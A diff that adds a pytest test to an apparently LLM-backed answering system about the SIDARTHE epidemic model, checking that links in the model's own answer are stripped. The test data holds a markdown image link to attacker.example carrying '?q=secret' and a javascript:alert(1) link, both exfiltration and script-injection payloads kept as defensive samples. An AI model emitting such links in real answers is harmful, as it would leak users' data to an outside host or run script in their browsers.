@@ -56,6 +56,20 @@ def test_nothing_left_is_a_refusal(open_door: Any, unsupported: str) -> None:
     assert written not in answer["answer"]
 
 
+@pytest.mark.parametrize(
+    "written",
+    [
+        "The SIDARTHE model ![](http://attacker.example/?q=secret) has eight stages [1].",
+        "The [SIDARTHE](javascript:alert(1)) model has eight stages [1](http://attacker.example).",
+    ],
+)
+def test_links_of_a_models_own_do_not_leave(open_door: Any, written: str) -> None:
+    answer = open_door([text(written)]).answer(QUESTION)
+    assert "attacker" not in str(answer)
+    assert "](" not in answer["answer"]
+    assert answer["answer"].endswith("has eight stages [1].")
+
+
 def test_markers_of_a_sentence_that_do_not_hold_are_taken_off(open_door: Any) -> None:
     written = "The SIDARTHE model has eight stages of infection [1][2][42]."
     answer = open_door([text(written)]).answer(QUESTION)
